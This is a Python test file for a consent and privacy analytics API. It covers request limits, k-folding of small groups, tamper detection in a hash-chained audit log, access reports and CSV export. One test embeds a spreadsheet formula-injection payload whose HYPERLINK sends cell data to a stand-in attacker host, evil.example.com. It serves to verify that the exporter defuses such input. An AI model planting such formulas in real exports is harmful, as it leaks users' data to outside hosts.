"""The API's rules as plain functions: request limits and deadlines, k-folding, the audit chain,
the access report and the portability CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consentstream.audit import GENESIS, entry_hash, hash_of, verify
from consentstream.audit_anchor import Head
from schemas.rows import AuditRow, PrivacyRequestRow
from services.api import answers, buckets, usage
from services.api.config import ApiSettings
from services.api.datamap import access_report, load_data_map
from services.api.errors import InvalidInput
from services.api.privacy import export, rules

NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
KEY = b"unit-test-audit-key"


def request(created: datetime, kind: str = "access", status: str = "done") -> PrivacyRequestRow:
    return PrivacyRequestRow.model_validate(
        {
            "request_id": created.isoformat(),
            "type": kind,
            "subject_key": "s",
            "status": status,
            "created_at": created,
            "updated_at": created,
            "deadline": created + timedelta(days=30),
            "result": "",
            "version": 1,
        }
    )


def test_two_requests_a_year_then_the_date_of_the_next() -> None:
    first, second = NOW - timedelta(days=300), NOW - timedelta(days=10)
    assert rules.next_allowed([request(first)], 2, NOW) is None
    allowed = rules.next_allowed([request(first), request(second, "portability")], 2, NOW)
    assert allowed == first.replace(year=first.year + 1)


def test_deletions_rejections_and_old_requests_do_not_count() -> None:
    earlier = [
        request(NOW - timedelta(days=5), "deletion"),
        request(NOW - timedelta(days=6), status="rejected"),
        request(NOW - timedelta(days=366)),
        request(NOW - timedelta(days=7)),
    ]
    assert rules.next_allowed(earlier, 2, NOW) is None


def test_a_year_after_a_leap_day() -> None:
    leap = datetime(2028, 2, 29, 9, 0, tzinfo=UTC)
    assert rules.one_year_after(leap) == datetime(2029, 3, 1, 9, 0, tzinfo=UTC)


def test_due_soon_only_for_open_requests_near_the_deadline() -> None:
    near = request(NOW - timedelta(days=25), status="verified")
    assert rules.is_due_soon(near, 7, NOW)
    assert not rules.is_due_soon(request(NOW, status="verified"), 7, NOW)
    assert not rules.is_due_soon(request(NOW - timedelta(days=25)), 7, NOW)  # done


def test_fold_withholds_a_small_other_and_keeps_big_groups() -> None:
    bucket = datetime(2026, 3, 2, tzinfo=UTC)
    rows = [
        {"bucket": bucket, "shown": 1, "key": "/a", "visitors": 7, "pageviews": 9},
        {"bucket": bucket, "shown": 0, "key": "", "visitors": 4, "pageviews": 50},
    ]
    [out] = usage.fold(rows, 5)
    assert [g.key for g in out.groups] == ["/a"]
    assert out.other.suppressed and out.other.pageviews is None and out.other.visitors is None


def test_time_range_defaults_and_limits() -> None:
    start, end = usage.time_range(None, NOW - timedelta(hours=12), "day", 400)
    assert end - start == timedelta(days=7)
    with pytest.raises(InvalidInput):
        usage.time_range(NOW, NOW, "day", 400)
    with pytest.raises(InvalidInput):
        usage.time_range(NOW - timedelta(days=32), NOW, "hour", 400)


def test_time_range_answers_whole_ready_buckets_only() -> None:
    cut = (NOW + timedelta(seconds=1), NOW + timedelta(seconds=3))
    hour = (NOW, NOW + timedelta(hours=1))
    ready = NOW + timedelta(days=1)
    # a window cut to the second reaches exactly what its whole bucket reaches
    assert usage.time_range(*cut, "hour", 400, ready_before=ready) == hour
    assert usage.time_range(*cut, "day", 400, ready_before=ready) == (
        datetime(2026, 6, 1, tzinfo=UTC),
        datetime(2026, 6, 2, tzinfo=UTC),
    )
    # the bucket still running (or not settled yet) is never answered: the range ends before
    assert usage.time_range(*cut, "hour", 400, ready_before=NOW + timedelta(minutes=59)) == (
        NOW,
        NOW,
    )
    start, end = usage.time_range(NOW - timedelta(days=3), None, "week", 400)
    assert end <= buckets.floor_bucket(datetime.now(UTC), "week") and start.weekday() == 0


def chain(n: int) -> list[AuditRow]:
    rows, prev = [], GENESIS
    for seq in range(1, n + 1):
        at = NOW + timedelta(seconds=seq)
        fields = ("k1", "privacy", "request.read", f"t{seq}", '{"a":1}')
        digest = entry_hash(KEY, seq, at, *fields, prev)
        rows.append(
            AuditRow(
                seq=seq,
                at=at,
                actor=fields[0],
                role=fields[1],
                action=fields[2],
                target=fields[3],
                detail=fields[4],
                prev_hash=prev,
                hash=digest,
            )
        )
        prev = digest
    return rows


@given(st.integers(1, 6), st.sampled_from(["actor", "role", "action", "target", "detail"]))
def test_any_edit_breaks_the_chain_at_that_entry(position: int, field: str) -> None:
    rows = chain(6)
    assert verify(rows, KEY).ok
    rows[position - 1] = rows[position - 1].model_copy(update={field: "tampered"})
    verdict = verify(rows, KEY)
    assert verdict.broken_seq == position


def test_rehashing_an_edited_entry_still_breaks_the_next_link() -> None:
    rows = chain(3)
    edited = rows[0].model_copy(update={"target": "other"})
    rows[0] = edited.model_copy(update={"hash": hash_of(edited, KEY)})
    assert verify(rows, KEY).broken_seq == 2


def _rechained(rows: list[AuditRow], key: bytes) -> list[AuditRow]:
    """The chain rewritten from its first entry on, each hash recomputed under ``key``."""
    out, prev = [], GENESIS
    for row in rows:
        linked = row.model_copy(update={"prev_hash": prev})
        linked = linked.model_copy(update={"hash": hash_of(linked, key)})
        out.append(linked)
        prev = linked.hash
    return out


def test_a_whole_chain_rewritten_without_the_key_does_not_verify() -> None:
    rows = chain(4)
    rows[1] = rows[1].model_copy(update={"target": "someone-else"})
    forged = _rechained(rows, b"a key the forger guessed")
    assert verify(forged, KEY).broken_seq == 1
    assert verify(_rechained(rows, KEY), KEY).ok  # only the key holder can rechain


def test_a_cut_tail_is_reported_against_the_anchored_head() -> None:
    rows = chain(5)
    head = Head(5, rows[-1].hash)
    assert verify(rows, KEY, head).ok
    verdict = verify(rows[:3], KEY, head)
    assert verdict.broken_seq == 4 and verdict.reason.startswith("tail cut")
    assert verify(rows, KEY, Head(5, "0" * 64)).broken_seq == 5
    assert verify(rows + chain(6)[5:], KEY, head).ok  # a chain ahead of its anchor is fine


def test_the_checked_in_data_map_covers_every_table_holding_subject_data() -> None:
    data_map = load_data_map(ApiSettings().data_map_path)
    assert {"usage_events", "consent_ledger", "privacy_requests"} <= set(data_map.tables)
    report = access_report(data_map, {"usage_events": [{"x": 1}], "consent_ledger": []})
    assert report["tables"]["usage_events"]["pieces"] == 1
    assert report["categories"] and report["purposes"] and report["recipients"]
    assert report["retention"]["consent_ledger"]


def test_a_malformed_data_map_is_refused(tmp_path: Path) -> None:
    bad = tmp_path / "map.yaml"
    bad.write_text("version: 1\ncontroller: x\ncontact: y\ntables: {t: {description: d}}\n")
    with pytest.raises(ValueError):
        load_data_map(bad)


def test_portability_csv_round_trips_odd_text() -> None:
    data = {"usage_events": [{"page_title": 'a,"b"\nc', "purposes": ["necessary"], "n": 3}]}
    rows = list(csv.DictReader(io.StringIO(export.export_csv(data))))
    values = {r["field"]: r["value"] for r in rows}
    assert values == {"page_title": 'a,"b"\nc', "purposes": '["necessary"]', "n": "3"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_portability_csv_never_writes_a_live_formula(start: str) -> None:
    title = f'{start}HYPERLINK("https://evil.example.com/?d="&A1,"open")'
    data = {"usage_events": [{"page_title": title, "props": {"k": f"{start}1+1"}, "n": -3}]}
    rows = list(csv.DictReader(io.StringIO(export.export_csv(data))))
    values = {r["field"]: r["value"] for r in rows}
    # the visitor's text is kept whole, behind a quote a spreadsheet shows as text
    assert values["page_title"] == "'" + title
    assert not values["props"].startswith(export.FORMULA_STARTS)
    assert values["n"] == "-3"  # a number stays a number


def test_buckets_align_to_hours_days_and_monday_weeks() -> None:
    moment = datetime(2026, 3, 4, 15, 30, tzinfo=UTC)  # a Wednesday
    assert buckets.floor_bucket(moment, "hour") == datetime(2026, 3, 4, 15, tzinfo=UTC)
    assert buckets.floor_bucket(moment, "day") == datetime(2026, 3, 4, tzinfo=UTC)
    assert buckets.floor_bucket(moment, "week") == datetime(2026, 3, 2, tzinfo=UTC)
    assert buckets.ceil_bucket(datetime(2026, 3, 4, tzinfo=UTC), "day") == datetime(
        2026, 3, 4, tzinfo=UTC
    )


def test_plan_stores_only_whole_closed_buckets() -> None:
    start, end = datetime(2026, 3, 1, 6, tzinfo=UTC), datetime(2026, 3, 10, 6, tzinfo=UTC)
    closed_before = datetime(2026, 3, 8, 12, tzinfo=UTC)
    plan = answers.plan(start, end, "day", closed_before)
    assert plan.closed == (datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 8, tzinfo=UTC))
    assert plan.live == [(start, datetime(2026, 3, 2, tzinfo=UTC)), (plan.closed[1], end)]
    recent = answers.plan(closed_before, end, "day", closed_before)
    assert recent.closed is None and recent.live == [(closed_before, end)]


def test_stored_buckets_without_a_done_marker_are_recomputed() -> None:
    day1, day2 = datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 3, tzinfo=UTC)
    stored = [
        {"bucket": day1, "row_kind": "group", "key": "/a", "visitors": 5, "pageviews": 5},
        {"bucket": day1, "row_kind": "done", "key": "", "visitors": 0, "pageviews": 0},
        {
            "bucket": day2,
            "row_kind": "group",
            "key": "/half-written",
            "visitors": 9,
            "pageviews": 9,
        },
    ]
    live = [{"bucket": day2, "shown": 1, "key": "/b", "visitors": 6, "pageviews": 7}]
    rows, missing, fresh = answers.answer(
        (day1, day2 + timedelta(days=1)), "day", stored, lambda _: live
    )
    assert missing == [day2] and fresh == live
    assert {r["key"] for r in rows} == {"/a", "/b"}
    saved = answers.to_stored(fresh, missing, "day", "page", 5)
    assert [(r.row_kind, r.key) for r in saved] == [("group", "/b"), ("done", "")]
